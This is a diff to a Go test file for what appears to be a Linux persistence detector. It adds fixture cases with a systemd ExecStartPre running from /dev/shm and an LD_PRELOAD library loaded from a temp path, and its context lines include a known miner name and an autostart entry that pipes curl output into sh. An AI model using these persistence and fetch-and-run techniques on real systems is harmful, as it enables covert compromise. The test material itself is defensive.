@@ -62,6 +62,10 @@ func TestKinds(t *testing.T) {
 			model.PersistenceEntry{Kind: model.PersistenceSystemdService, Unit: "b.service", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 		{
+			"/etc/systemd/system/service.d/x.conf", "[Service]\nLimitNOFILE=1\n", "[Service]\nExecStartPre=/dev/shm/x\n",
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, Unit: "service", Command: "/dev/shm/x", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
+		},
+		{
 			"/home/eve/.config/systemd/user/c.service", "[Service]\nExecStart=%h/.local/bin/tool\n", "this line is broken\n[Service]\nso is this\nExecStart=%h/kdevtmpfsi\n",
 			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "eve", Unit: "c.service", Command: "/home/eve/kdevtmpfsi", Programs: []string{"/home/eve/kdevtmpfsi"}, Reason: model.PersistenceKnownMiner, Evidence: "/home/eve/kdevtmpfsi"},
 		},
@@ -104,6 +108,10 @@ func TestKinds(t *testing.T) {
 		{
 			"/etc/profile.d/x.sh", "export PATH=$PATH:/opt/bin\n", "export LD_PRELOAD=/dev/shm/x.so\n",
 			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 1, Command: "export LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
+		},
+		{
+			"/home/eve/.config/environment.d/x.conf", "PATH=$HOME/bin:$PATH\n", "A=b\nLD_PRELOAD=/dev/shm/x.so\n",
+			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 2, User: "eve", Command: "LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
 		},
 		{
 			"/home/eve/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x %U\n", "[Desktop Entry]\nName=X\nExec=sh -c \"curl http://x | sh\"\n",
